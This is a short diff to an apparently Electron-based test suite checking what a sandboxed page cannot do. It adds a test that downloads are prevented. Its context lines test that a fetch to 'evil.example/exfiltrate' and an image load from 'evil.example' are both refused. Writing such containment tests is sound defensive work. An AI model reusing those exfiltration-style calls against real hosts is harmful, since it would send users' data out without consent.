@@ -121,6 +121,10 @@ describe('what the page cannot do', () => {
     expect(await electron.ask('webviewPrevented')).toBe(true);
   });
 
+  it('put a file on the disk by itself', async () => {
+    expect(await electron.ask('downloadPrevented')).toBe(true);
+  });
+
   it('reach the network: its policy and the program each refuse', async () => {
     expect(await evaluate('fetch("https://evil.example/exfiltrate").then(() => "reached", (error) => error.name)')).toBe('TypeError');
     expect(await evaluate('new Promise((resolve) => { const image = new Image(); image.onerror = () => resolve("refused"); image.onload = () => resolve("reached"); image.src = "https://evil.example/pixel.png"; })')).toBe('refused');
